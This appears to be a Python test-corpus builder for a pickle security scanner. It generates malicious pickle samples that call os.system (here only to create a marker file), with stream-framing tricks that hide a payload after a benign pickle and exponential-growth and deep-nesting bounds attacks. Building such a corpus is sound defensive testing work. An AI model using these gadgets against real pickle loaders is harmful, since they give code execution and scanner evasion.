    ("opcode_appends_append_gadget.pkl", "APPENDS on an object whose `append` is os.system",
     _append_gadget),
    ("opcode_setitems_shelve.pkl", "SETITEMS into shelve.open(path): disk-writing __setitem__",
     lambda m: call(glob("shelve", "open"), uni(m)) + op.MARK + uni("k") + uni("v")
     + op.SETITEMS),
]  # fmt: skip


def _benign_dict() -> bytes:
    return wrap(dct([(uni("epoch"), integer(3)), (uni("lr"), value(0.01))]), 2)


# Stream rows produce complete streams (not bodies): framing is the technique.
STREAMS: list[PickleRow] = [
    ("stream_second_pickle_malicious.pkl", "benign pickle, then a malicious one back to back",
     lambda m: _benign_dict() + os_system_pickle(m, 2)),
    ("stream_third_pickle_malicious.pkl", "three pickles (proto 2, 2, 4), the third malicious",
     lambda m: _benign_dict() + _benign_dict() + os_system_pickle(m, 4)),
    ("stream_trailing_garbage.pkl", "malicious pickle followed by junk bytes after STOP",
     lambda m: os_system_pickle(m, 2) + b"\xff\xfe junk \x00" * 8),
    ("stream_truncated_after_reduce.pkl", "stream ends right after REDUCE (no STOP)",
     lambda m: op.PROTO + b"\x02" + os_system(m)),
    ("stream_exception_after_payload_int_global.pkl",
     "payload, then STACK_GLOBAL on ints: parsers that raise lose the finding (EDP)",
     lambda m: wrap(os_system(m) + op.POP + integer(1) + integer(2) + op.STACK_GLOBAL, 4)),
    ("stream_exception_after_payload_bad_memo.pkl",
     "payload, then BINGET of a memo slot never written",
     lambda m: wrap(os_system(m) + op.POP + op.BINGET + b"\x63", 2)),
    ("stream_no_proto_header_proto4_ops.pkl", "protocol-4 opcodes without a PROTO header",
     lambda m: stack_glob("os", "system") + uni(sh(m)) + op.TUPLE1 + op.REDUCE + op.STOP),
]  # fmt: skip


def _dup_growth(m: str) -> bytes:
    body = os_system(m)
    for _ in range(64):
        body += op.DUP + op.TUPLE2
    return body


def _memo_growth(m: str) -> bytes:
    body = os_system(m) + op.LONG_BINPUT + (0).to_bytes(4, "little")
    for i in range(64):
        get = op.LONG_BINGET + i.to_bytes(4, "little")
        body += op.POP + get + get + op.TUPLE2 + op.LONG_BINPUT + (i + 1).to_bytes(4, "little")
    return body


def _deep_nesting(m: str) -> bytes:
    depth = 100_000
    return op.EMPTY_LIST * depth + os_system(m) + op.APPEND * depth


BOUNDS: list[PickleRow] = [
    ("bounds_dup_exponential_growth.pkl", "64 x DUP+TUPLE2: 2**64 leaves if expanded",
     _dup_growth),
    ("bounds_memo_get_exponential_growth.pkl", "64 x BINGET pairs: exponential via memo",
     _memo_growth),
    ("bounds_deep_list_nesting.pkl", "100,000 nested lists around the payload", _deep_nesting),
]  # fmt: skip


PICKLE_GROUPS: list[tuple[str, list[PickleRow]]] = [
    ("gadget-shell", SHELL),
    ("gadget-exec", EXEC),
    ("gadget-import-resolver", RESOLVER),
    ("gadget-trampoline", TRAMPOLINE),
    ("gadget-ctypes", CTYPES),
    ("gadget-file-write", FILE_WRITE),
    ("gadget-network", NETWORK),
    ("gadget-nested-deserializer", NESTED),
    ("gadget-code-object", CODE),
    ("opcode-inst-obj-newobj", INSTANTIATION),
    ("opcode-stack-global-indirection", STACK_GLOBAL),
    ("opcode-ext-registry", EXTENSIONS),
    ("opcode-hidden-result", HIDDEN),
    ("opcode-setstate-append-setitem", SETSTATE),
    ("bounds", BOUNDS),
]


def _protocol_for(name: str, body: bytes) -> int:
    """Protocol 2 unless the body needs 4 (STACK_GLOBAL, MEMOIZE, dotted names); Python 2
    names stay at 2 because `fix_imports` only maps them below protocol 3."""
    if name.startswith("gadget_py2_"):
        return 2
    if op.STACK_GLOBAL in body or op.MEMOIZE in body or op.NEWOBJ_EX in body:
        return 4
    return 2


def pickle_samples(marker_dir: Path) -> list[tuple[Sample, bytes]]:
    """Every pickle-stream sample as (manifest row, file bytes)."""
    out: list[tuple[Sample, bytes]] = []

    def marker(name: str) -> str:
        return str(marker_dir / name.split(".")[0])

    for technique, rows in PICKLE_GROUPS:
        for name, description, build in rows:
            body = build(marker(name))
            proto = _protocol_for(name, body)
            data = wrap(body + op.POP + op.NONE, proto)
            out.append((Sample(name, technique, description, True, "creates marker"), data))
    for name, description, proto, build in PROTOCOLS:
        data = wrap(build(marker(name)) + op.POP + op.NONE, proto)
        out.append((Sample(name, "opcode-protocol", description, True, "creates marker"), data))
    for name, description, build in STREAMS:
        out.append((Sample(name, "stream-framing", description, True, "creates marker"),
                    build(marker(name))))  # fmt: skip
    return out


def build_malicious_corpus(out_dir: Path, marker_dir: Path) -> list[Sample]:
    """Write every malicious sample under `out_dir` and a `manifest.json`; load nothing.

    Payloads point at `marker_dir`, so a scanner run that ever executed one leaves a file
    there. The pickle samples come from this module; containers and model formats from
    `tests.corpus.malicious_formats`.
    """
    from tests.corpus.malicious_formats import format_samples

    out_dir.mkdir(parents=True, exist_ok=True)
    marker_dir.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []
    for sample, data in pickle_samples(marker_dir):
        (out_dir / sample.path).write_bytes(data)
        samples.append(sample)
    samples.extend(format_samples(out_dir, marker_dir))
    names = [s.path for s in samples]
    if len(names) != len(set(names)):
        raise AssertionError("duplicate sample paths in the malicious corpus")
    write_manifest(out_dir, samples, kind="malicious", marker_dir=str(marker_dir))
    return samples


# Re-exported for the format module: one definition of "the payload pickle".
__all__ = [
    "build_malicious_corpus",
    "cloudpickle_function_call",
    "os_system",
    "os_system_pickle",
    "payload_function",
    "pickle_samples",
    "py",
    "sh",
]
